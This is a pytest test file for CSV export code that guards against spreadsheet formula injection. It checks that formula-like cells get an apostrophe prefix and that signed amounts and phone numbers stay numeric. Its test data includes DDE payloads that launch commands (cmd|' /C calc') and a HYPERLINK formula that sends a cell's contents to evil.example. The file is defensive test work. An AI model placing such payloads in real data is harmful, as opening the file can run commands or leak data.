"""CSV exports never hand a spreadsheet a formula (OWASP CSV injection), but keep numbers."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest

from shared.adapters.files import CsvRatedSink, CsvRejectSink
from shared.domain.calls import CallRecord, CallStatus, RejectReason
from shared.domain.rating.engine import Rating
from shared.formats.csv_safe import SafeCsvWriter, safe_cell, safe_row

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "+44 20 7123-4567",  # not a plain number: a spreadsheet would try to evaluate it
    "-",
    "+",
]


@pytest.mark.parametrize("cell", HOSTILE)
def test_a_cell_starting_like_a_formula_gets_a_leading_apostrophe(cell: str) -> None:
    assert safe_cell(cell) == "'" + cell


@pytest.mark.parametrize(
    "cell", ["-1.50", "+442071234567", "-0.0008", "-.5", "+3.", "0.0469", "442071234567"]
)
def test_plain_numbers_stay_numbers(cell: str) -> None:
    # signed amounts (re-rate differences, margins) and E.164 numbers must stay numeric
    assert safe_cell(cell) == cell


@pytest.mark.parametrize("cell", ["Germany", "", "a=b", "call-1", " =1+1"])
def test_ordinary_text_is_unchanged(cell: str) -> None:
    # only the first character matters; a formula after a space is plain text in a sheet
    assert safe_cell(cell) == cell


def test_non_text_values_pass_unchanged() -> None:
    assert safe_row([Decimal("-1.50"), -3, None]) == [Decimal("-1.50"), -3, None]


def test_the_safe_writer_neutralises_every_row_and_still_quotes() -> None:
    out = io.StringIO()
    writer = SafeCsvWriter(out)
    writer.writerows([["name", "value"], ['=1+2,"x"', "-1.50"]])
    assert out.getvalue() == 'name,value\n"\'=1+2,""x""",-1.50\n'
    assert list(csv.reader(io.StringIO(out.getvalue())))[1] == ["'=1+2,\"x\"", "-1.50"]


def test_rated_calls_csv_neutralises_hostile_cdr_fields() -> None:
    # Given a call whose caller, account and call id are formulas
    call = CallRecord(
        call_id="=1+1",
        tenant="acme",
        callee="+442071234567",
        account="@SUM(A1)",
        caller="-2+3+cmd|' /C calc'!A0",
    )
    rating = Rating(
        CallStatus.RATED, "USD", "=card", Decimal("0.0469"), "44", "+UK", "peak", 78_000
    )
    out = io.StringIO()
    CsvRatedSink(out).write(call, rating)
    row = dict(zip(*list(csv.reader(io.StringIO(out.getvalue()))), strict=True))
    # Then the formulas are text, the E.164 callee and the cost stay as they were
    assert row["call_id"] == "'=1+1"
    assert row["account"] == "'@SUM(A1)"
    assert row["caller"] == "'-2+3+cmd|' /C calc'!A0"
    assert row["destination"] == "'+UK"
    assert row["card"] == "'=card"
    assert row["callee"] == "+442071234567"
    assert row["cost"] == "0.0469"
    assert row["billed_seconds"] == "78"


def test_rejects_csv_neutralises_the_original_line() -> None:
    out = io.StringIO()
    CsvRejectSink(out).write(4, "=cmd|' /C calc'!A0,acme", RejectReason.MALFORMED, "-bad")
    assert out.getvalue().splitlines()[1] == "4,malformed,'-bad,\"'=cmd|' /C calc'!A0,acme\""


def test_breakout_csv_neutralises_a_hostile_destination_and_keeps_signed_margins() -> None:
    from shared.domain.breakout import BuyCost, breakout_lines
    from shared.formats.breakout_report import write_csv

    # a carrier deck's destination name is outside text too; the margin here is negative
    lines = breakout_lines(
        [("2026-03-02", '=HYPERLINK("http://x")', 1, 1, 60_000, Decimal("0.0100"))],
        {("2026-03-02", '=HYPERLINK("http://x")'): BuyCost(Decimal("0.0150"), 1)},
    )
    out = io.StringIO()
    write_csv(lines, out, "USD")
    row = list(csv.reader(io.StringIO(out.getvalue())))[1]
    assert row[1] == '\'=HYPERLINK("http://x")'
    # margin 0.0100 − 0.0150 = −0.0050, −50.00 %: plain numbers, left as they are
    assert row[9:11] == ["-0.0050", "-50.00"]
